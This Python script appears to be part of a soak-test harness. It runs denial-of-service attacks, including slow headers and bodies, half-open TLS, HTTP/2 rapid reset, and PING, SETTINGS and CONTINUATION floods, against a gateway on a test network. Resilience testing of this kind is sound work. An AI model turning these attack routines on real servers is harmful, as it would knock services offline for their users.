"""Attacks one gateway for some seconds. Nothing that the attacker sees counts. Runs inside the network of the soak, at the lowest priority."""

from __future__ import annotations

import argparse
import os
import socket
import struct
import threading
import time
from collections.abc import Callable

from client import HTTP, HTTPS

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
"""The preface of HTTP/2, with empty SETTINGS (RFC 9113, 3.4)."""
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
HELLO = bytes.fromhex("1603010200010001fc0303")
"""The begin of a ClientHello of 512 bytes."""

end = 0.0


def frame(kind: int, flags: int, stream: int, data: bytes) -> bytes:
    return struct.pack(">I", len(data))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + data


def get(path: bytes = b"/?s=1m") -> bytes:
    """Returns the fields of a request, without Huffman codes and without the dynamic table (RFC 7541, 6)."""
    host = b"web.soak.test"
    return b"\x82\x86" + b"\x04" + bytes([len(path)]) + path + b"\x01" + bytes([len(host)]) + host


def connect(gateway: str, port: int) -> socket.socket:
    return socket.create_connection((gateway, port), 5)


def drip(gateway: str, port: int, begin: bytes, byte: bytes) -> None:
    """Holds 40 connections, with one byte of each per second."""
    held = []
    for _ in range(40):
        held.append(connect(gateway, port))
        held[-1].sendall(begin)
    while time.monotonic() < end:
        time.sleep(1)
        for each in held:
            try:
                each.sendall(byte)
            except OSError:
                pass
    for each in held:
        each.close()


def flood(gateway: str, block: Callable[[int], bytes]) -> None:
    """Sends blocks on one connection of HTTP/2 until the gateway closes it, and again."""
    with connect(gateway, HTTP) as connection:
        connection.sendall(PREFACE)
        stream = 1
        while time.monotonic() < end:
            connection.sendall(block(stream))
            stream += 2


def reset(gateway: str) -> None:
    """Opens connections, sends half a request, and resets them."""
    while time.monotonic() < end:
        for port in (HTTP, HTTPS):
            connection = connect(gateway, port)
            connection.sendall(b"GET / HTTP/1.1\r\nHost: web.soak")
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            connection.close()
        time.sleep(0.01)


def abandoned(gateway: str) -> None:
    """Requests large responses, does not read them, and closes the connection after a second."""
    while time.monotonic() < end:
        held = [connect(gateway, HTTP) for _ in range(5)]
        for each in held:
            each.sendall(b"GET /?s=8m HTTP/1.1\r\nHost: web.soak.test\r\n\r\n")
        time.sleep(1)
        for each in held:
            each.close()


def garbage(gateway: str) -> None:
    """Sends random bytes to every port."""
    while time.monotonic() < end:
        for port in (HTTP, HTTPS):
            with connect(gateway, port) as connection:
                connection.sendall(os.urandom(2000))
        time.sleep(0.02)


ATTACKS: dict[str, Callable[[str], None]] = {
    "slow heads": lambda gateway: drip(gateway, HTTP, b"GET / HTTP/1.1\r\nHost: web.soak.test\r\nX-Slow: ", b"a"),
    "slow bodies": lambda gateway: drip(gateway, HTTP, b"POST / HTTP/1.1\r\nHost: fragile.soak.test\r\nContent-Length: 1000\r\n\r\n", b"a"),
    "half-open TLS": lambda gateway: drip(gateway, HTTPS, HELLO, b"a"),
    "rapid reset": lambda gateway: flood(gateway, lambda stream: frame(HEADERS, 5, stream, get()) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")),
    "PING": lambda gateway: flood(gateway, lambda _: frame(PING, 0, 0, b"12345678") * 100),
    "SETTINGS": lambda gateway: flood(gateway, lambda _: frame(SETTINGS, 0, 0, b"") * 100),
    "CONTINUATION": lambda gateway: flood(gateway, lambda stream: frame(HEADERS, 1, 1, get()) if stream == 1 else frame(CONTINUATION, 0, 1, b"\0\x01x\x7f\xa1\x03" + b"y" * 544)),
    "resets": reset, "abandoned responses": abandoned, "garbage": garbage,
}


def repeat(attack: Callable[[str], None], gateway: str) -> None:
    while time.monotonic() < end:
        try:
            attack(gateway)
        except OSError:
            time.sleep(0.05)


def main() -> None:
    global end
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("--gateway", required=True, help="the address of the gateway")
    parser.add_argument("--seconds", type=float, default=5, help="the duration (5)")
    options = parser.parse_args()
    os.nice(19)
    end = time.monotonic() + options.seconds
    threads = [threading.Thread(target=repeat, args=(ATTACKS[options.attack], options.gateway)) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


if __name__ == "__main__":
    main()
